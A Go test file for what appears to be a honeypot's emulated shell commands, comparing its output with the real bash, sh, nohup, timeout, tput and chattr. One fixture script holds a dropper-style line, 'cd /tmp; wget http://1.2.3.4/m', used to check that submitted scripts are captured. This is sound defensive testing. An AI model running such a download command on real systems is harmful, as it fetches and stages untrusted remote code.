package commands

import (
	"context"
	"io"
	"strings"
	"testing"
	"time"
)

func TestBashAndShMatchHostErrors(t *testing.T) {
	e := newTestEnv(t)
	env := []string{"PATH=/usr/bin:/bin", "LANG=C"}
	for _, tc := range []struct {
		prog string
		args []string
	}{
		{"bash", []string{"--version"}},
		{"bash", []string{"nosuch.sh"}},
		{"bash", []string{"-c"}},
		{"bash", []string{"--bogus"}},
		{"sh", []string{"nosuch.sh"}},
		{"sh", []string{"--version"}},
		{"sh", []string{"-c"}},
	} {
		want, wantErr, wantSt := hostRun(t, env, tc.prog, tc.args...)
		got, gotErr, gotSt := e.run(append([]string{tc.prog}, tc.args...)...)
		if got != want || gotErr != wantErr || gotSt != wantSt {
			t.Errorf("%s %q:\n got  %q %q %d\n want %q %q %d", tc.prog, tc.args, got, gotErr, gotSt, want, wantErr, wantSt)
		}
	}
}

func TestBashRunsThroughSub(t *testing.T) {
	e := newTestEnv(t)
	e.sub = func(ctx context.Context, script string, args []string, in io.Reader, so, se io.Writer) int {
		io.WriteString(so, "ran\n")
		return 3
	}
	e.expect([]string{"bash", "-c", "echo $0 $1", "a", "b"}, "ran\n", "", 3)
	e.expect([]string{"sh", "-c", "id"}, "ran\n", "", 3)
	e.expect([]string{"bash", "-ec", "false; echo no"}, "ran\n", "", 3)
	script := "#!/bin/sh\ncd /tmp; wget http://1.2.3.4/m\n"
	if err := e.vfs().WriteFile("/root/i.sh", []byte(script), 0o755); err != nil {
		t.Fatal(err)
	}
	e.expect([]string{"sh", "i.sh", "arg"}, "ran\n", "", 3)
	_, _, st := e.runIn("uname -a\n", "bash")
	if st != 3 {
		t.Errorf("bash with a script on stdin exited %d", st)
	}
	want := []string{"echo $0 $1|a,b", "id|sh", "set -e\nfalse; echo no|bash", script + "|i.sh,arg", "uname -a\n|bash"}
	if strings.Join(e.subRuns, "\x00") != strings.Join(want, "\x00") {
		t.Errorf("subshell runs:\n got  %q\n want %q", e.subRuns, want)
	}
	if len(e.sink.files) != 2 || string(e.sink.files[0]) != script || string(e.sink.files[1]) != "uname -a\n" {
		t.Errorf("captured scripts: %q", e.sink.files)
	}
}

func TestNohup(t *testing.T) {
	e := newTestEnv(t)
	e.sub = func(ctx context.Context, script string, args []string, in io.Reader, so, se io.Writer) int {
		io.WriteString(so, "out\n")
		io.WriteString(se, "err\n")
		return 0
	}
	e.tty = true
	e.expect([]string{"nohup", "ls", "-la"}, "", "nohup: ignoring input and appending output to 'nohup.out'\n", 0)
	if b, err := e.vfs().ReadFile("/root/nohup.out"); err != nil || string(b) != "out\nerr\n" {
		t.Errorf("nohup.out: %q %v", b, err)
	}
	e.tty = false
	e.expect([]string{"nohup", "ls"}, "out\n", "nohup: ignoring input\nerr\n", 0)
	e.sess.Interactive, e.sess.TTY = false, ""
	e.expect([]string{"nohup", "ls"}, "out\n", "err\n", 0)
	env := []string{"PATH=/usr/bin:/bin", "LANG=C"}
	for _, args := range [][]string{{}, {"nosuchcmd-x"}} {
		want, wantErr, wantSt := hostRun(t, env, "nohup", args...)
		got, gotErr, gotSt := e.run(append([]string{"nohup"}, args...)...)
		if got != want || gotErr != wantErr || gotSt != wantSt {
			t.Errorf("nohup %q:\n got  %q %q %d\n want %q %q %d", args, got, gotErr, gotSt, want, wantErr, wantSt)
		}
	}
}

func TestTimeout(t *testing.T) {
	e := newTestEnv(t)
	e.sub = func(ctx context.Context, script string, args []string, in io.Reader, so, se io.Writer) int {
		<-ctx.Done()
		return 130
	}
	start := time.Now()
	e.expect([]string{"timeout", "0.1", "sleep", "10"}, "", "", 124)
	if time.Since(start) > 5*time.Second {
		t.Error("timeout did not cut its command")
	}
	e.expect([]string{"timeout", "--preserve-status", "0.05", "sleep", "10"}, "", "", 143)
	env := []string{"PATH=/usr/bin:/bin", "LANG=C"}
	for _, args := range [][]string{{}, {"1"}, {"1x", "ls"}, {"1", "nosuchcmd-x"}} {
		want, wantErr, wantSt := hostRun(t, env, "timeout", args...)
		got, gotErr, gotSt := e.run(append([]string{"timeout"}, args...)...)
		if got != want || gotErr != wantErr || gotSt != wantSt {
			t.Errorf("timeout %q:\n got  %q %q %d\n want %q %q %d", args, got, gotErr, gotSt, want, wantErr, wantSt)
		}
	}
}

func TestTerminalPrograms(t *testing.T) {
	e := newTestEnv(t)
	env := []string{"PATH=/usr/bin:/bin", "TERM=xterm-256color"}
	for _, args := range [][]string{{"clear"}, {"tput", "colors"}, {"tput", "sgr0"}, {"tput", "bold"}, {"tput", "setaf", "1"},
		{"tput", "setab", "4"}, {"tput", "civis"}, {"tput", "nosuchcap"}} {
		want, wantErr, wantSt := hostRun(t, env, args[0], args[1:]...)
		got, gotErr, gotSt := e.run(args...)
		if got != want || gotErr != wantErr || gotSt != wantSt {
			t.Errorf("%q:\n got  %q %q %d\n want %q %q %d", args, got, gotErr, gotSt, want, wantErr, wantSt)
		}
	}
	delete(e.env, "TERM")
	e.expect([]string{"clear"}, "", "TERM environment variable not set.\n", 1)
	e.expect([]string{"mesg"}, "is y\n", "", 0)
	e.sess.TTY = ""
	e.expect([]string{"mesg"}, "", "mesg: ttyname failed: Inappropriate ioctl for device\n", 2)
}

func TestChattrLsattr(t *testing.T) {
	e := newTestEnv(t)
	if err := e.vfs().WriteFile("/root/f", []byte("x"), 0o644); err != nil {
		t.Fatal(err)
	}
	e.expect([]string{"lsattr", "f"}, "--------------e------- f\n", "", 0)
	e.expect([]string{"lsattr"}, "--------------e------- ./f\n", "", 0)
	e.expect([]string{"lsattr", "/nonexist"}, "", "lsattr: No such file or directory while trying to stat /nonexist\n", 1)
	e.expect([]string{"chattr", "+i", "f"}, "", "", 0)
	e.expect([]string{"chattr", "+i", "nope"}, "", "chattr: No such file or directory while trying to stat nope\n", 1)
	e.asDeploy()
	if err := e.vfs().WriteFile("/home/deploy/g", []byte("x"), 0o644); err != nil {
		t.Fatal(err)
	}
	e.expect([]string{"chattr", "-i", "g"}, "", "chattr: Operation not permitted while setting flags on g\n", 1)
}

// TestHelpVersionMatchHost checks the generated --help/--version table against the real
// programs.
func TestHelpVersionMatchHost(t *testing.T) {
	e := newTestEnv(t)
	env := []string{"PATH=/usr/bin:/bin:/usr/sbin:/sbin", "LANG=C", "COLUMNS=80"}
	for _, args := range [][]string{{"whoami", "--version"}, {"id", "--help"}, {"uname", "--help"}, {"date", "--help"},
		{"sleep", "--version"}, {"df", "--help"}, {"nproc", "--help"}, {"env", "--version"}, {"wget", "--version"}} {
		want, _, wantSt := hostRun(t, env, args[0], args[1:]...)
		got, _, gotSt := e.run(args...)
		if got != want || gotSt != wantSt {
			t.Errorf("%q differs from the real program (status %d, want %d)", args, gotSt, wantSt)
		}
	}
}
